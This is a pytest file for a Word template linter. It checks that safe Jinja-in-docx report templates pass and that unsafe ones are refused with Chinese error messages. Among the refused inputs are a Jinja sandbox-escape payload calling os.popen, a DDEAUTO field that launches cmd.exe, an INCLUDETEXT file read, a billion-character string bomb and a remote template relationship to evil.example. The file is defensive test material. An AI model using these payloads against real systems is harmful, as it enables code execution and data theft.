"""Templates that must be refused, each with the words that say why, and twins that must pass."""

from __future__ import annotations

from pathlib import Path

import pytest
from jinja2 import TemplateError

from hmaint.errors import BadFile
from hmaint.report.docx import fill
from hmaint.report.form import Signature
from hmaint.report.language import environment
from hmaint.report.lint import lint
from hmaint.report.package import pack, unpack
from hmaint.report.source.word import cell, field, paragraph, row, run, table
from tests.report import templates
from tests.report.templates import DATA, ROWS, SIGN, form, template

NAME = paragraph("{{ name }}")


def split_in_runs(words: str) -> str:
    return (
        "<w:p>" + "".join(run(letter, bold=index % 2 == 0) for index, letter in enumerate(words)) + "</w:p>"
    )


SOUND = {
    "a field": (NAME,),
    "rows": (NAME, ROWS),
    "a field that Word split into runs": (split_in_runs("{{ name }}"),),
    "a condition inside a paragraph": (NAME, paragraph("{% if note %}有{{ note }}{% else %}无{% endif %}")),
    "a filter that only shows": (paragraph("{{ name|upper }} {{ rows|length }}"),),
    "the loop's own number": (
        NAME,
        paragraph("{% for row in rows %}{{ loop.index }}{{ row.what }}{% endfor %}"),
    ),
    "page numbers": (paragraph("{{ name }}", field("PAGE"), field("NUMPAGES")),),
    "a single brace": (paragraph("{ {{ name }} } 100 %"),),
    "a comment": (paragraph("{# 说明 #}{{ name }}"),),
    "a signature place": (NAME, SIGN),
}

LONE = run("{{ na")
UNSOUND = {
    "a name no field has": (
        (NAME, paragraph("{{ nam }}")),
        "没有这个字段：nam，是否想写 name",
    ),
    "a name no row has": (
        (NAME, ROWS.replace("row.what", "row.whta")),
        "row.whta，是否想写 what",
    ),
    "a required field left out": ((paragraph("x"),), "没有用到必填项 name"),
    "a list without a loop": ((NAME, paragraph("{{ rows }}")), "rows 是列表"),
    "a loop over a word": ((NAME, paragraph("{% for x in name %}{% endfor %}")), "for 只能逐行遍历列表字段"),
    "a tag split over cells": (
        (NAME, table((1000, 3000), row(cell(paragraph("{{ na")), cell(paragraph("me }}"))))),
        "标签被拆到不同的段落或单元格",
    ),
    "a tag split over paragraphs": (
        (NAME, paragraph("{{ na"), paragraph("me }}")),
        "标签被拆到不同的段落或单元格",
    ),
    "a tag that is not closed": ((NAME, paragraph("{% if note")), "标签被拆到不同的段落或单元格"),
    "an if without end": ((NAME, paragraph("{% if note %}")), "标签语法错误"),
    "row loop closed as a plain one": (
        (NAME, ROWS.replace("{%tr endfor %}", "{% endfor %}")),
        "模板无法填写",
    ),
    "a row tag outside a table": (
        (NAME, paragraph("{%tr for row in rows %}"), paragraph("{%tr endfor %}")),
        "只能放在表格里",
    ),
    "two row tags in one row": (
        (
            NAME,
            table(
                (1000, 3000),
                row(cell(paragraph("{%tr for row in rows %}")), cell(paragraph("{%tr endfor %}"))),
            ),
        ),
        "一个表格行里只能有一个",
    ),
    "a missing blank": ((NAME, ROWS.replace("{%tr for", "{%trfor")), "后面必须有空格"),
    "whitespace control": ((NAME, paragraph("{%- if note -%}x{% endif %}")), "标签里不能有 - 或 + 号"),
    "raw insertion": ((NAME, paragraph("{{r note }}")), "不允许插入原始内容"),
    "a macro": ((NAME, paragraph("{% macro f() %}x{% endmacro %}")), "不允许的语句"),
    "a variable set": ((NAME, paragraph("{% set x = 'a' %}")), "不允许的语句"),
    "an include": ((NAME, paragraph("{% include 'x' %}")), "不允许的语句"),
    "raw text": ((NAME, paragraph("{% raw %}{{ name }}{% endraw %}")), "不允许的语句"),
    "a test of its own": ((NAME, paragraph("{% if name is mapping %}x{% endif %}")), "不允许的判断"),
    "escaping switched off": (
        (NAME, paragraph("{{ note|safe }}")),
        "不允许的过滤器：safe",
    ),
    "an attribute by filter": ((NAME, paragraph("{{ note|attr('__class__') }}")), "不允许的过滤器"),
    "a call": ((NAME, paragraph("{{ name.upper() }}")), "不允许的写法：Call"),
    "the classic way out": (
        (NAME, paragraph("{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
        "不允许的写法",
    ),
    "a way out through a string": ((NAME, paragraph("{{ ''.__class__.__mro__ }}")), "没有这个字段"),
    "a way out through a field": (
        (NAME, paragraph("{{ name.__class__ }}")),
        "没有这个字段：name.__class__",
    ),
    "a way out by index": ((NAME, paragraph("{{ name['__class__'] }}")), "不允许的写法：Getitem"),
    "a long string by multiplication": ((NAME, paragraph("{{ 'a' * 10**9 }}")), "不允许的写法"),
    "a big range": ((NAME, paragraph("{% for x in range(10**9) %}{% endfor %}")), "for 只能逐行遍历"),
    "loops in loops in loops": (
        (NAME, paragraph("{% for a in rows %}" * 5 + "{% endfor %}" * 5)),
        "循环嵌套过深",
    ),
    "a field that fetches a file": (
        (paragraph("{{ name }}", field('INCLUDETEXT "C:/x.txt"')),),
        "不允许的域：INCLUDETEXT",
    ),
    "a field that starts a program": (
        (paragraph("{{ name }}", field('DDEAUTO c:/cmd.exe "/k calc"')),),
        "DDEAUTO",
    ),
    "a tag in a field code": (
        (paragraph("{{ name }}", field('HYPERLINK "{{ note }}"')),),
        "标签不能放在域代码里",
    ),
    "a tag in a content control": (
        (f"<w:sdt><w:sdtContent>{NAME}</w:sdtContent></w:sdt>",),
        "标签不能放在内容控件里",
    ),
    "a data field in the signature place": (
        (NAME, SIGN.replace('preserve"></w:t>', 'preserve">{{ note }}</w:t>', 1)),
        "签字栏必须留空",
    ),
    "a printed signature": (
        (NAME, SIGN.replace('preserve"></w:t>', 'preserve">李四</w:t>', 1)),
        "签字栏必须留空",
    ),
}


@pytest.mark.parametrize("body", SOUND.values(), ids=list(SOUND))
def test_a_sound_template_passes(body: tuple[str, ...], tmp_path: Path) -> None:
    made = form(tmp_path, *body)
    assert lint(made.content(), made) == []
    assert fill(made, DATA)


@pytest.mark.parametrize(("body", "why"), UNSOUND.values(), ids=list(UNSOUND))
def test_an_unsound_template_is_refused_with_its_reason(
    body: tuple[str, ...], why: str, tmp_path: Path
) -> None:
    needs_sign = any("签字</w:t>" in block for block in body)
    made = form(tmp_path, *body, signatures=[Signature("签字")] if needs_sign else [])
    faults = lint(made.content(), made)
    assert any(why in fault for fault in faults), faults
    assert not any("\n" in fault for fault in faults)
    with pytest.raises(BadFile) as caught:
        fill(made, DATA)
    assert caught.value.faults[0].place.path == str(made.template)


@pytest.mark.parametrize("part", ["header", "footer"])
def test_header_and_footer_are_looked_at_too(part: str, tmp_path: Path) -> None:
    bad = form(tmp_path, content=template(NAME, **{part: paragraph("{{ cycler.__init__ }}")}))
    assert any("没有这个字段" in fault for fault in lint(bad.content(), bad))
    good = form(tmp_path, content=template(paragraph("x"), **{part: paragraph("{{ name }}")}))
    assert lint(good.content(), good) == []


def test_footnotes_are_looked_at_and_filled_once(tmp_path: Path) -> None:
    made = form(tmp_path, content=with_footnote("{{ name }}{{ note }}"))
    assert lint(made.content(), made) == []
    filled = fill(made, {**DATA, "note": "{{ 7*7 }}"})
    assert "张三{{ 7*7 }}" in unpack(filled)["word/footnotes.xml"].decode()
    bad = form(tmp_path, content=with_footnote("{{ cycler.__init__ }}"))
    assert any(fault.startswith("脚注：") for fault in lint(bad.content(), bad))


def test_tags_where_nothing_is_filled_are_named(tmp_path: Path) -> None:
    parts = unpack(with_footnote("{{ note }}"))
    parts["word/endnotes.xml"] = parts.pop("word/footnotes.xml")
    for name in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
        parts[name] = parts[name].replace(b"footnotes", b"endnotes")
    made = form(tmp_path, content=pack(parts))
    assert any("word/endnotes.xml 里的标签不会被填写" in fault for fault in lint(made.content(), made))
    core = unpack(template(NAME))
    core["docProps/core.xml"] = core["docProps/core.xml"].replace("样表".encode(), b"{{ name }}")
    made = form(tmp_path, content=pack(core))
    assert any("文档属性里不能有标签" in fault for fault in lint(made.content(), made))


def test_a_template_that_fetches_from_elsewhere_is_refused(tmp_path: Path) -> None:
    parts = unpack(template(NAME))
    name = "word/_rels/document.xml.rels"
    image = (
        b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil.example/x"'
        b' TargetMode="External"/>'
    )
    link = image.replace(b"attachedTemplate", b"hyperlink")
    for relation, refused in ((image, True), (link, False)):
        changed = {**parts, name: parts[name].replace(b"</Relationships>", relation + b"</Relationships>")}
        made = form(tmp_path, content=pack(changed))
        assert any("不能从别处取内容" in fault for fault in lint(made.content(), made)) is refused


def test_embedded_objects_are_refused(tmp_path: Path) -> None:
    parts = {**unpack(template(NAME)), "word/embeddings/oleObject1.bin": b"x"}
    made = form(tmp_path, content=pack(parts))
    assert any("嵌入对象" in fault for fault in lint(made.content(), made))


def test_a_broken_part_is_a_fault_and_no_traceback(tmp_path: Path) -> None:
    parts = unpack(template(NAME))
    for name in (
        "word/document.xml",
        "word/styles.xml",
        "[Content_Types].xml",
        "word/_rels/document.xml.rels",
    ):
        made = form(tmp_path, content=pack({**parts, name: parts[name][:-20]}))
        assert lint(made.content(), made), name


def test_a_part_that_is_not_there_is_a_fault_and_no_traceback(tmp_path: Path) -> None:
    parts = unpack(template(NAME))
    del parts["word/header1.xml"]
    made = form(tmp_path, content=pack(parts))
    assert any("模板无法打开" in fault for fault in lint(made.content(), made))


def test_a_text_in_an_unusual_place_is_named(tmp_path: Path) -> None:
    parts = unpack(template(NAME))
    parts["word/text.xml"] = parts.pop("word/document.xml")
    for name in ("[Content_Types].xml", "_rels/.rels"):
        parts[name] = parts[name].replace(b"word/document.xml", b"word/text.xml")
    made = form(tmp_path, content=pack(parts))
    assert any("正文不在 word/document.xml" in fault for fault in lint(made.content(), made))


def test_the_sandbox_holds_even_where_the_list_of_constructs_would_not() -> None:
    for source in (
        "{{ 'a' * 10**9 }}",
        "{{ 'a' * 9 }}",
        "{{ 1000 * 1000 }}",
        "{{ 'a'.upper() }}",
        "{{ ''.__class__.x }}",
    ):
        with pytest.raises(TemplateError):
            environment().from_string(source).render()
    assert environment().from_string("{{ 3 * 4 }}").render() == "12"


def test_a_sample_that_does_not_fit_is_named(tmp_path: Path) -> None:
    made = form(tmp_path, NAME, sample={"name": "x", "note": ""})
    assert lint(made.content(), made) == ["样例数据：数据缺少 rows（明细）"]
    made.sample.write_text("[", "utf-8")
    assert any("样例数据无法读取" in fault for fault in lint(made.content(), made))
    made.sample.write_text("[]", "utf-8")
    assert any("样例数据必须是一个对象" in fault for fault in lint(made.content(), made))


def test_a_missing_signature_place_is_a_fault(tmp_path: Path) -> None:
    made = form(tmp_path, NAME, signatures=[Signature("院长签字")])
    assert lint(made.content(), made) == ["没有找到签字栏：院长签字"]


def with_footnote(words: str) -> bytes:
    parts = unpack(template(paragraph("{{ name }}")))
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>'.encode()
    )
    relations = parts["word/_rels/document.xml.rels"]
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
    parts["word/_rels/document.xml.rels"] = relations.replace(
        b"</Relationships>",
        f'<Relationship Id="rId8" Type="{kind}" Target="footnotes.xml"/></Relationships>'.encode(),
    )
    footnote = f'<w:footnote w:id="1">{paragraph(words)}</w:footnote>'
    parts["word/footnotes.xml"] = parts["word/header1.xml"].replace(b"w:hdr", b"w:footnotes")
    body = parts["word/footnotes.xml"].decode()
    start, end = body.index("<w:p>"), body.index("</w:footnotes>")
    parts["word/footnotes.xml"] = (body[:start] + footnote + body[end:]).encode()
    return pack(parts)


def test_the_helper_above_makes_what_word_makes() -> None:
    assert b"<w:footnote " in unpack(with_footnote("x"))["word/footnotes.xml"]
    assert templates.FIELDS["name"].required
